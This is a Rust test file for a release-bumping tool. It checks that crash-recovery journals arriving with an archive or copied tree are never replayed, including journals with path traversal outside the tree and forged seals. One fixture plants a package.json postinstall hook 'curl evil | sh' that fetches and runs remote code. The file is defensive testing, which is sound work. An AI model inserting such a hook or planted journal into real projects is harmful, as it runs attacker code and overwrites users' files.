//! A journal that arrived with the tree (a tarball, an sdist, a `git archive` export, a copied
//! `.git`) is never replayed: not by the commands that only read, which must change nothing at
//! all, and not by those that write, which refuse until the user discards it. Journals of the
//! earlier, unsealed formats 1 and 2 are planted aimed outside the tree and at in-tree files
//! whose contents the attacker knows; a format 3 journal with a forged seal likewise.
//!
//! And a genuine journal that travels with its tree (`cp -a`, `mv`) is recovered for the tree
//! it is in, never for the one it came from.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use crate::common::{fixture, repo, Project};

/// Every file below `dir`, `.git` included, with its bytes (symlinks as their target).
fn tree(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    fn walk(dir: &Path, out: &mut BTreeMap<PathBuf, Vec<u8>>) {
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            let p = e.path();
            let t = e.file_type().unwrap();
            if t.is_symlink() {
                let target = std::fs::read_link(&p).unwrap();
                out.insert(p, target.into_os_string().into_encoded_bytes());
            } else if t.is_dir() {
                out.insert(p.clone(), b"<dir>".to_vec());
                walk(&p, out);
            } else {
                out.insert(p.clone(), std::fs::read(&p).unwrap());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, &mut out);
    out
}

/// Length-prefixed entry of a format 1 or 2 journal.
fn entry(path: &Path, old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<u8> {
    let p = path.as_os_str().as_encoded_bytes();
    let mut out = match (old, new) {
        (Some(o), Some(n)) => format!("{} {} {}\n", p.len(), o.len(), n.len()),
        (None, Some(n)) => format!("{} - {}\n", p.len(), n.len()),
        (Some(o), None) => format!("{} {}\n", p.len(), o.len()),
        (None, None) => format!("{} -\n", p.len()),
    }
    .into_bytes();
    out.extend_from_slice(p);
    out.extend_from_slice(old.unwrap_or_default());
    out.extend_from_slice(new.unwrap_or_default());
    out.push(b'\n');
    out
}

/// Version 1: every entry restored blindly, `-` entries deleted.
fn v1(entries: &[(&Path, Option<&[u8]>)]) -> Vec<u8> {
    let mut out = format!(
        "BUMPSMITH-JOURNAL 1\nhead -\ntag -\nfiles {}\n",
        entries.len()
    )
    .into_bytes();
    for (p, old) in entries {
        out.extend(entry(p, *old, None));
    }
    out.extend_from_slice(b"END\n");
    out
}

/// A planted entry: path, "original" bytes (`None`: the run "created" it), "written" bytes.
type Planted<'a, P> = (&'a P, Option<&'a [u8]>, &'a [u8]);

/// Version 2: an entry is restored when the file holds the (known) "written" bytes.
fn v2(entries: &[Planted<'_, Path>]) -> Vec<u8> {
    let mut out = format!(
        "BUMPSMITH-JOURNAL 2\nhead -\ntag -\nmoved 0\nfiles {}\n",
        entries.len()
    )
    .into_bytes();
    for (p, old, written) in entries {
        out.extend(entry(p, *old, Some(written)));
    }
    out.extend_from_slice(b"END\n");
    out
}

/// Version 3, the current format, relative paths, with a seal made without the user's key.
fn v3_forged(entries: &[Planted<'_, str>], seal: &str) -> Vec<u8> {
    let mut out = format!(
        "BUMPSMITH-JOURNAL 3\nroot 1\n/\nhead -\nstaged 1\ntag v9.9.9\nmoved 0\nfiles {}\n",
        entries.len()
    )
    .into_bytes();
    for (p, old, written) in entries {
        out.extend(entry(Path::new(p), *old, Some(written)));
    }
    out.extend_from_slice(format!("seal {seal}\nEND\n").as_bytes());
    out
}

/// Plant each journal in turn at `journal`, then check what every command does with it.
fn assert_never_replayed(p: &Project, journal: &str, outside: &Path, planted: &[(&str, Vec<u8>)]) {
    let scratch = p.root.parent().unwrap();
    for (name, data) in planted {
        p.write(journal, data);
        let before = tree(scratch);
        let commands: &[&[&str]] = &[
            &["show", "current_version"],
            &["show-bump"],
            &["check"],
            &["find", "0.9.8"],
            &["changelog"],
            &["next"],
            &["patch", "--dry-run"],
            &["replace", "--new-version", "0.9.9", "--dry-run"],
        ];
        for args in commands {
            let run = p.bump(args);
            assert!(
                run.stderr.contains("bump recover"),
                "{name} {args:?}: the journal is reported\n{}",
                run.stderr
            );
            assert_eq!(
                tree(scratch),
                before,
                "{name}: `bump {}` changed something",
                args.join(" ")
            );
        }
        for args in [
            &["patch"][..],
            &["recover"],
            &["replace", "--new-version", "0.9.9"],
        ] {
            p.bump(args)
                .assert_code(1)
                .assert_stderr_has("it was not applied")
                .assert_stderr_has("bump recover --discard");
            assert_eq!(
                tree(scratch),
                before,
                "{name}: `bump {}` replayed it",
                args.join(" ")
            );
        }
        assert!(outside.join("secret").exists());
        p.bump(&["recover", "--discard"])
            .assert_ok()
            .assert_stderr_has("without applying it");
        assert!(!p.exists(journal), "{name}: discarded");
        let mut after = tree(scratch);
        after.retain(|k, _| !k.ends_with(journal));
        let mut expected = before.clone();
        expected.retain(|k, _| !k.ends_with(journal));
        assert_eq!(after, expected, "{name}: discarding touched nothing else");
    }
}

/// Journals aimed outside the tree (write, delete) and at in-tree files with known contents.
fn plants(p: &Project, outside: &Path) -> Vec<(&'static str, Vec<u8>)> {
    let secret = outside.join("secret");
    let planted_file = outside.join("planted");
    let in_tree = p.path("package.json");
    let known = p.read_bytes("package.json");
    let empty = p.path("EMPTY");
    vec![
        (
            "version 1",
            v1(&[
                (&secret, None),
                (&planted_file, Some(b"#!/bin/sh\nplanted\n")),
                (
                    &in_tree,
                    Some(b"{\"scripts\": {\"postinstall\": \"curl evil | sh\"}}"),
                ),
            ]),
        ),
        (
            "version 2",
            v2(&[
                (&secret, None, b"top secret\n"),
                (&in_tree, Some(b"{\"evil\": true}"), &known),
                (&empty, Some(b"planted"), b""),
            ]),
        ),
        (
            "version 3, forged seal",
            v3_forged(
                &[
                    ("package.json", Some(b"{\"evil\": true}"), &known),
                    ("../outside/secret", None, b"top secret\n"),
                ],
                &"00".repeat(32),
            ),
        ),
        (
            "version 3, unsealed",
            v3_forged(&[("package.json", Some(b"{\"evil\": true}"), &known)], "-"),
        ),
        ("garbage", b"BUMPSMITH-JOURNAL 3\nnot a journal".to_vec()),
    ]
}

fn outside_dir(p: &Project) -> PathBuf {
    let outside = p.root.parent().unwrap().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret"), "top secret\n").unwrap();
    outside
}

#[test]
fn a_journal_planted_outside_git_is_never_replayed() {
    let p = fixture("git-project");
    p.write("EMPTY", "");
    let outside = outside_dir(&p);
    let planted = plants(&p, &outside);
    assert_never_replayed(&p, ".bumpsmith-journal", &outside, &planted);
    // and with it gone, the bump goes through
    p.bump(&["patch"]).assert_ok();
    assert!(p.read("package.json").contains("0.9.9"));
}

#[test]
fn a_journal_planted_in_a_git_directory_is_never_replayed() {
    let p = repo("git-project");
    p.write("EMPTY", "");
    p.commit_all("empty file");
    let outside = outside_dir(&p);
    let planted = plants(&p, &outside);
    assert_never_replayed(&p, ".git/bumpsmith-journal", &outside, &planted);
    p.bump(&["patch"]).assert_ok();
    assert_eq!(p.tags(), ["v0.9.9"]);
}

#[test]
fn a_journal_copied_or_moved_with_its_tree_is_recovered_for_that_tree() {
    let p = repo("git-project");
    let old = p.interrupted_release();
    let half = p.snapshot();
    assert_ne!(half, old, "the files were written before the kill");

    // `cp -a repo copy`: recovering the copy restores the copy, and only the copy
    let scratch = p.root.parent().unwrap();
    let copy = scratch.join("copy");
    let cp = std::process::Command::new("cp")
        .arg("-a")
        .arg(&p.root)
        .arg(&copy)
        .status()
        .unwrap();
    assert!(cp.success());
    let original_tree = tree(&p.root);
    let run = p.bump_in("../copy", &["recover"]);
    run.assert_ok()
        .assert_stderr_has("the journal was written at");
    assert_eq!(
        tree(&p.root),
        original_tree,
        "the original tree is untouched"
    );
    for (name, bytes) in &old {
        assert_eq!(
            &std::fs::read(copy.join(name)).unwrap(),
            bytes,
            "{name} restored in the copy"
        );
    }
    assert!(!copy.join(".git/bumpsmith-journal").exists());

    // `mv repo moved`: recovered where it now is
    let moved = scratch.join("moved");
    std::fs::rename(&p.root, &moved).unwrap();
    // an empty directory where it was, for `bump_in` to start from (and nothing to recover)
    std::fs::create_dir(&p.root).unwrap();
    p.bump_in("../moved", &["recover"])
        .assert_ok()
        .assert_stderr_has("the journal was written at");
    assert_eq!(
        tree(&p.root),
        BTreeMap::new(),
        "nothing written where it was"
    );
    for (name, bytes) in &old {
        assert_eq!(&std::fs::read(moved.join(name)).unwrap(), bytes, "{name}");
    }
    std::fs::remove_dir(&p.root).unwrap();
    std::fs::rename(&moved, &p.root).unwrap();
}
